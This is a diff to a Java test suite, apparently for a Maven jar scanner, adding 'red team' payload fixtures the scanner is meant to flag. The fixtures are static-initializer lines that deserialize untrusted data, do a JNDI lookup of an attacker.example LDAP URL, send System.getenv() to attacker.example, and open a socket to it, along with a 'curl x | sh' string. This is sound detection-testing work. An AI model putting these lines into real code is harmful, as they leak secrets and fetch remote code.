@@ -911,7 +911,7 @@ class MavenScanTest {
         byte[] appended = java.util.Arrays.copyOf(tag, tag.length + 12);
         System.arraycopy(utf8("curl x | sh"), 0, appended, tag.length, 11);
         Map<String, byte[]> withCode = LocalMaven.javac(Map.of("org/acme/Outer$2.java",
-                "package org.acme;\nclass Outer$2 {\n  static { System.getenv(); }\n}\n"), "--release", "8");
+                "package org.acme;\nclass Outer$2 {\n  static { Object o = new Object(); }\n}\n"), "--release", "8");
         Map<String, byte[]> jar = new LinkedHashMap<>(classes);
         jar.put("org/acme/Outer$2.class", withCode.get("org/acme/Outer$2.class"));
         jar.put("META-INF/versions/11/org/acme/Outer$1.class", appended);
@@ -961,7 +961,15 @@ class MavenScanTest {
             "static Object h() throws Throwable { return java.lang.invoke.MethodHandles.lookup().findStatic(Greeter.class,"
                     + " \"greet\", java.lang.invoke.MethodType.methodType(String.class, String.class)); }",
             "static { try { new java.net.URLClassLoader(new java.net.URL[0]); } catch (Exception e) { } }",
-            "static { try { new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1\"); } catch (Exception e) { } }"})
+            "static { try { new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1\"); } catch (Exception e) { } }",
+            // red team round 5 (case5): JDK interpreters of code given as data, and what a payload reads and sends
+            "static { try { new java.beans.XMLDecoder(new java.io.ByteArrayInputStream(new byte[0])).readObject(); }"
+                    + " catch (Exception e) { } }",
+            "static { try { new java.io.ObjectInputStream(System.in).readObject(); } catch (Exception e) { } }",
+            "static { try { new javax.naming.InitialContext().lookup(\"ldap://attacker.example/x\"); } catch (Exception e) { } }",
+            "static { try { new java.net.URL(\"https://attacker.example/\" + System.getenv()).openStream(); }"
+                    + " catch (Exception e) { } }",
+            "static { try { new java.net.Socket(\"attacker.example\", 443).close(); } catch (Exception e) { } }"})
     void aClassWhoseCodeUsesAnApiItsSourceDoesNotNameIsHighRiskNotCompiledFromSource(String payload) throws Exception {
         Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Greeter.java",
                 GREETER.replace("public class Greeter {\n", "public class Greeter {\n    " + payload + "\n")), "--release", "11");
